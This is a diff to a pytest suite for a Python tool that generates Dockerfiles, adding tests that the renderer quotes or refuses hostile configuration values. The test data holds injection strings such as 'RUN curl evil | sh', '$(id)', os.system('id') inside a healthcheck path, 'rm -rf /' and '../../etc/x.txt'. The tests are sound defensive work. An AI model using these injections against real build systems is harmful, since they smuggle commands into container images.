@@ -2,16 +2,21 @@
 
 from __future__ import annotations
 
+import ast
 import datetime as dt
+import json
 import os
 from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import pytest
+from test_escape import buildkit_words
 
 from containerize import config
 from containerize.engine import buildx
-from containerize.image import dockerfile, plan
+from containerize.errors import ConfigError
+from containerize.image import dockerfile, pins, plan
 from containerize.platforms import LINUX_AMD64, LINUX_ARM64, Platform
 
 CREATED = dt.datetime(2024, 1, 2, 3, 4, 5, tzinfo=dt.UTC)
@@ -53,11 +58,20 @@ GOLDEN = Path(__file__).resolve().parents[1] / "data" / "hello-wsgi.Dockerfile"
 
 
 def test_render_matches_the_reviewed_dockerfile(hello: config.Config) -> None:
-    """The whole Dockerfile, as reviewed; regenerate with CONTAINERIZE_REGEN=1 and read the diff."""
+    """The whole Dockerfile, as reviewed. With CONTAINERIZE_REGEN=1 a changed rendering
+    is written to the golden file and the test still fails: read the diff, then run the
+    tests again without it."""
     text = dockerfile.render(make(hello))
-    if os.environ.get("CONTAINERIZE_REGEN"):
+    reviewed = GOLDEN.read_text() if GOLDEN.exists() else None
+    if text != reviewed and os.environ.get("CONTAINERIZE_REGEN"):
         GOLDEN.write_text(text)
-    assert text == GOLDEN.read_text()
+        pytest.fail(
+            f"the rendering changed and {GOLDEN} was regenerated: review the diff "
+            f"(git diff -- {GOLDEN.relative_to(GOLDEN.parents[2])}), then run the tests "
+            "again without CONTAINERIZE_REGEN"
+        )
+    assert reviewed is not None, f"{GOLDEN} is missing: run once with CONTAINERIZE_REGEN=1"
+    assert text == reviewed, "the rendering changed: run with CONTAINERIZE_REGEN=1 and review"
 
 
 def test_env_and_labels_are_quoted_literally(hello: config.Config) -> None:
@@ -151,7 +165,8 @@ def test_invocations_argv(hello: config.Config, tmp_path: Path) -> None:
         cache_from=["type=registry,ref=r/cache"],
         platforms=[LINUX_AMD64, LINUX_ARM64],
     )
-    assert [inv.target for inv in invs] == ["gunicorn", "uwsgi", "mod_wsgi"]
+    assert [inv.target for inv in invs] == list(hello.servers)
+    assert invs[0].target == "gunicorn"
     assert buildx.argv(invs[0]) == [
         "docker", "buildx", "--builder", "arm-farm", "build", "--progress", "auto",
         "--file", str(tmp_path / "ctx" / "Dockerfile"),
@@ -173,3 +188,217 @@ def test_oci_output_with_rewritten_timestamps(tmp_path: Path) -> None:
         "--output",
         f"type=oci,dest={tmp_path / 'img.tar'},rewrite-timestamp=true",
     ]
+
+
+# Hostile values: each renders inertly (the same instructions, the value read back
+# literally) or is refused with the setting it came from.
+
+
+def instructions(text: str) -> list[str]:
+    """The instruction keyword of every logical line (continuations and comments not)."""
+    return [
+        line.split(" ", 1)[0]
+        for line in text.splitlines()
+        if line and not line[0].isspace() and not line.startswith("#")
+    ]
+
+
+def assert_inert(text: str, normal: str) -> None:
+    assert instructions(text) == instructions(normal)
+    assert text.count("\nRUN ") == normal.count("\nRUN ")
+    for line in text.splitlines():
+        assert line == "" or line.startswith(("#", " ")) or line.split(" ", 1)[0].isupper()
+
+
+def env_value(text: str, key: str) -> str:
+    (line,) = [line for line in text.splitlines() if line.lstrip().startswith(f"{key}=")]
+    word = line.strip().removeprefix(f"{key}=").removesuffix(" \\")
+    (value,) = buildkit_words(word)
+    return value
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "$HOME ${PATH} $(id) `id`",
+        '" \\ RUN curl evil | sh',
+        'x" \\',
+        "--from=evil' ; id #",
+    ],
+)
+def test_hostile_env_value_renders_inertly(hello: config.Config, value: str) -> None:
+    normal = dockerfile.render(make(hello))
+    text = dockerfile.render(make(replace(hello, env=(("GREETING", value),))))
+    assert_inert(text, normal)
+    assert env_value(text, "GREETING") == value
+
+
+@pytest.mark.parametrize("value", ["ok\nRUN curl evil | sh", "a\rb", "a\u2028b", "nul\0"])
+def test_line_breaks_in_env_values_are_refused(hello: config.Config, value: str) -> None:
+    cfg = replace(hello, env=(("GREETING", value),))
+    with pytest.raises(ConfigError, match=r"^tool\.containerize\.env\.GREETING: ") as info:
+        dockerfile.render(make(cfg))
+    assert info.value.hint
+
+
+def test_env_names_that_would_need_quoting_are_refused(hello: config.Config) -> None:
+    cfg = replace(hello, env=(("A=1 B", "x"),))
+    with pytest.raises(ConfigError, match="cannot be an ENV or LABEL key"):
+        dockerfile.render(make(cfg))
+
+
+@pytest.mark.parametrize(
+    ("base", "message"),
+    [
+        (BASE + "\nRUN curl evil | sh", "U\\+000A"),
+        ("python:3.11 AS x", "U\\+0020"),
+        ("python:3.11\nFROM evil", "U\\+000A"),
+        ("python@sha256:nothex", "not a sha256 digest"),
+        ("${EVIL}", "not a valid repository name"),
+    ],
+)
+def test_hostile_base_image_is_refused(hello: config.Config, base: str, message: str) -> None:
+    hostile = replace(make(hello), base_image=base)
+    with pytest.raises(ConfigError, match=message) as info:
+        dockerfile.render(hostile)
+    assert info.value.message.startswith("tool.containerize.base-image")
+
+
+def test_line_breaks_in_labels_are_refused(hello: config.Config) -> None:
+    hostile = 'https://example.test/"\nRUN curl evil | sh'
+    for cfg, origin in [
+        (replace(hello, source=hostile), "tool.containerize.source"),
+        (replace(hello, version=hostile), "the project version"),
+    ]:
+        with pytest.raises(ConfigError, match=f"the label org.opencontainers.image.* {origin}"):
+            dockerfile.render(make(cfg))
+
+
+def test_quotes_and_dollars_in_labels_render_inertly(hello: config.Config) -> None:
+    normal = dockerfile.render(make(replace(hello, source="https://example.test/app")))
+    source = 'https://example.test/"$(id)" \\'
+    text = dockerfile.render(make(replace(hello, source=source)))
+    assert_inert(text, normal)
+    assert env_value(text, "org.opencontainers.image.source") == source
+    assert 'org.opencontainers.image.source="https://example.test/\\"\\$(id)\\" \\\\"' in text
+
+
+def healthcheck_code(text: str) -> str:
+    (line,) = [line for line in text.splitlines() if line.startswith("    CMD [")]
+    argv = json.loads(line.removeprefix("    CMD "))
+    assert argv[:2] == ["/opt/venv/bin/python", "-c"]
+    code: str = argv[2]
+    return code
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/'+__import__('os').system('id')+'",
+        "/', timeout=4); __import__('os').system('id'); ('",
+        '/"); import os; os.system("id"); ("',
+        "/\\'); import os #",
+        "/health\nimport os",
+        '/ünïcode?q=1&x="\'"',
+    ],
+)
+def test_quotes_in_the_healthcheck_path_stay_inside_the_url(
+    hello: config.Config, path: str
+) -> None:
+    normal = dockerfile.render(make(hello))
+    text = dockerfile.render(make(replace(hello, healthcheck_path=path)))
+    assert_inert(text, normal)
+    tree = ast.parse(healthcheck_code(text))
+    # Exactly: import urllib.request; urllib.request.urlopen(<the URL>, timeout=4)
+    first, second = tree.body
+    assert isinstance(first, ast.Import)
+    assert [alias.name for alias in first.names] == ["urllib.request"]
+    assert isinstance(second, ast.Expr)
+    call = second.value
+    assert isinstance(call, ast.Call)
+    assert ast.unparse(call.func) == "urllib.request.urlopen"
+    (url,) = call.args
+    assert isinstance(url, ast.Constant)
+    assert url.value == f"http://127.0.0.1:8000{path}"
+    assert [(k.arg, ast.literal_eval(k.value)) for k in call.keywords] == [("timeout", 4)]
+
+
+def test_healthcheck_path_must_stay_in_the_url_path(hello: config.Config) -> None:
+    cfg = replace(hello, healthcheck_path="@evil.example/")
+    with pytest.raises(ConfigError, match="healthcheck-path must start with '/'"):
+        dockerfile.render(make(cfg))
+
+
+def test_hostile_server_stage_values(hello: config.Config) -> None:
+    p = make(hello)
+    normal = dockerfile.render(p)
+    gunicorn = p.servers[0]
+    command = (*gunicorn.command[:-1], 'hello:app"]\nRUN id #')
+    text = dockerfile.render(
+        replace(p, servers=(replace(gunicorn, command=command), *p.servers[1:]))
+    )
+    assert_inert(text, normal)
+    (cmd,) = [line for line in stage(text, "gunicorn").splitlines() if line.startswith("CMD ")]
+    assert json.loads(cmd.removeprefix("CMD ")) == list(command)
+
+    for bad, message in [
+        (replace(gunicorn, stop_signal="SIGTERM\nRUN id"), "the gunicorn server: "),
+        (replace(gunicorn, name="gunicorn AS x"), "cannot name a build stage"),
+        (replace(gunicorn, requirements="../../etc/x.txt"), "not a file name in the wheelhouse"),
+        (replace(gunicorn, build_packages=("gcc; curl evil | sh",)), "not a Debian package"),
+        (replace(gunicorn, runtime_packages=("-oAPT::Update=x",)), "not a Debian package"),
+    ]:
+        with pytest.raises(ConfigError, match=message):
+            dockerfile.render(replace(p, servers=(bad,)))
+
+
+def test_ids_and_port_must_be_numbers(hello: config.Config) -> None:
+    p = make(hello)
+    # The plan's types say int; a str that slipped through must not be pasted.
+    text_uid: Any = "0; id"
+    text_port: Any = "8000\nRUN id"
+    for bad, message in [
+        (replace(p, uid=text_uid), "tool.containerize.uid: '0; id' is not a user or group id"),
+        (replace(p, gid=True), "tool.containerize.gid: True is not"),
+        (replace(p, gid=2**32), "tool.containerize.gid: 4294967296 is not"),
+        (replace(p, port=text_port), "tool.containerize.port: "),
+    ]:
+        with pytest.raises(ConfigError, match=message):
+            dockerfile.render(bad)
+
+
+def test_python_path_cannot_become_a_run_flag(hello: config.Config) -> None:
+    text = dockerfile.render(replace(make(hello), python="--mount=type=secret,id=x"))
+    builder = stage(text, "builder")
+    assert "RUN --network=none '--mount=type=secret,id=x' -m venv" in builder
+
+
+@pytest.mark.parametrize(
+    ("digest", "message"),
+    [
+        ('"sha256:nothex; rm -rf /"', r"holds the character ' ' \(U\+0020\)"),
+        ('"sha256:nothex"', "is not a sha256 digest"),
+        ('"sha256:' + "A" * 64 + '"', "64 lowercase hexadecimal digits"),
+        ('"sha256:' + "a" * 64 + '\\nRUN id"', r"U\+000A"),
+        ("5", "expected a digest string"),
+    ],
+)
+def test_pinned_digests_are_checked_before_they_reach_the_dockerfile(
+    tmp_path: Path, digest: str, message: str
+) -> None:
+    path = tmp_path / "containerize.lock"
+    path.write_text(f'[base-images]\n"python:3.11" = {digest}\n')
+    with pytest.raises(ConfigError, match=message) as info:
+        pins.read(path)
+    assert info.value.message.startswith(f'{path}: base-images."python:3.11": ')
+    assert info.value.hint is not None
+    assert "containerize pin --refresh" in info.value.hint
+
+
+def test_a_bad_digest_is_never_written(tmp_path: Path) -> None:
+    path = tmp_path / "containerize.lock"
+    with pytest.raises(ConfigError, match="is not a sha256 digest"):
+        pins.write(path, "python:3.11", "sha256:nothex")
+    assert not path.exists()
+    pins.write(path, "python:3.11", "sha256:" + "b" * 64)
+    assert pins.read(path) == {"python:3.11": "sha256:" + "b" * 64}
